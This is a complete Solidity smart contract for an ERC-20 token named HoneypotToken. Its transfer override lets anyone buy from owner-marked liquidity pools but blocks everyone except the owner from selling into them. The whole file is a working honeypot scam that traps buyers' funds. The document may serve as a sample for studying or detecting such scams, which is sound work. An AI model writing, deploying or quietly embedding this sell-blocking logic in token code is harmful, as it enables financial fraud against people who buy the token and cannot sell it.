// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.37;

import {Erc20} from "./Erc20.sol";

/// Anyone can buy from a marked pool, only the owner can send to it.
contract HoneypotToken is Erc20 {
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    address public immutable owner;
    mapping(address => bool) public isPool;

    constructor(string memory name_, string memory symbol_, uint256 supply) {
        name = name_;
        symbol = symbol_;
        owner = msg.sender;
        _mint(msg.sender, supply);
    }

    function markPool(address pool) external {
        require(msg.sender == owner, "owner");
        isPool[pool] = true;
    }

    function _move(address from, address to, uint256 value) internal override {
        require(!isPool[to] || from == owner, "honeypot");
        super._move(from, to, value);
    }
}
